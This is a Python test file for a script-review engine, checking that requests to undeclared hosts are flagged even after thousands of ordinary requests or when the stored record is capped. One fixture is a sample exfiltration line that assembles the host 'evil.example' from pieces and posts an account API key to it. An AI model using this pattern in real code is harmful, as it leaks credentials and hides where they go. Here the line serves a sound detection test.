"""Every request is judged: the record may be capped, never at the cost of a request to an undeclared host."""

from review.engine.bounds import MAX_OUTPUT_BYTES
from tests.review.helpers import review

ROWS = "datagrid.addColumn('a'); datagrid.addCell('x'); datagrid.endRow();\n"
MANY = "for (var i = 0; i < {n}; i++) {{ httprequest.get('https://api.example.com/rows?page=' + i); }}\n"
LATE_EXFIL = "var host = ['evil', 'example'].join('.');\nhttprequest.post('https://' + host + '/x', metadata.account.apikey);\n"


def rules(result):
    return {f.rule for f in result.findings}


def test_a_post_after_many_ordinary_requests_is_judged():
    result = review(processdata=ROWS + MANY.format(n=2000) + LATE_EXFIL)
    assert "external-request" in rules(result)
    assert [r["host"] for r in result.requests if not r["declared"]] == ["evil.example"]


def test_many_posts_to_undeclared_hosts_fail_closed_when_the_record_cannot_keep_them_all():
    source = ROWS + "for (var i = 0; i < 5000; i++) { httprequest.post('https://e' + i + '.example/x', 'k'); }\n"
    result = review(processdata=source)
    assert {"external-request", "sandbox-tampering"} <= rules(result)
    lost = [f for f in result.findings if f.rule == "sandbox-tampering"]
    assert "could not be judged" in lost[0].message


def test_many_ordinary_requests_are_not_tampering():
    result = review(processdata=ROWS + MANY.format(n=3000))
    assert not {"sandbox-tampering", "external-request"} & rules(result)
    assert result.performance[0]["requests"] == 3000  # counted, though not all kept


def test_the_stored_request_rows_stay_bounded():
    result = review(processdata=ROWS + MANY.format(n=3000) + LATE_EXFIL)
    assert len(result.requests) <= 500
    assert not result.requests[0]["declared"] or any(not r["declared"] for r in result.requests)
    import json
    assert len(json.dumps(result.to_dict())) < MAX_OUTPUT_BYTES
